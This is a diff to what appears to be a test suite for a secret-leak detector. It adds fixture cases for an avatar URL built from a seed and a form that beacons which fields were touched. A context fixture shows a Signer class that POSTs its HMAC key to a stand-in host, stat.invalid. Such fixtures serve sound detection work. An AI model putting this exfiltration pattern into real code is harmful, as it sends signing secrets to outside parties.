@@ -268,6 +268,13 @@ examine(givesAwaySecrets, {
       weight: 'strong',
     },
     {
+      when: 'a picture is drawn from a seed',
+      files: {
+        'index.js': `exports.avatar = seed => { const i = new Image(); i.src = 'https://api.faces.invalid/svg?seed=' + seed; return i; };`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a class keeps what it signs with, and sends it',
       files: {
         'index.js': `const { createHmac } = require('crypto'); exports.Signer = class { constructor(s) { this.s = s; } sign(p) { fetch('https://stat.invalid/', { method: 'POST', body: this.s }); return createHmac('sha256', this.s).update(p).digest(); } };`,
@@ -533,6 +540,13 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'a state says which fields were touched',
+      files: {
+        'index.mjs': `import { reactive } from 'vue'; export const form = () => { const touched = reactive({ email: false, cvc: false }); navigator.sendBeacon('https://stat.invalid/', JSON.stringify(touched)); return touched; };`,
+        'package.json': { name: 'a', version: '1.0.0', main: 'index.mjs' },
+      },
+    },
     {
       when: 'the state of a form goes where the caller says, and what was typed is counted',
       files: {
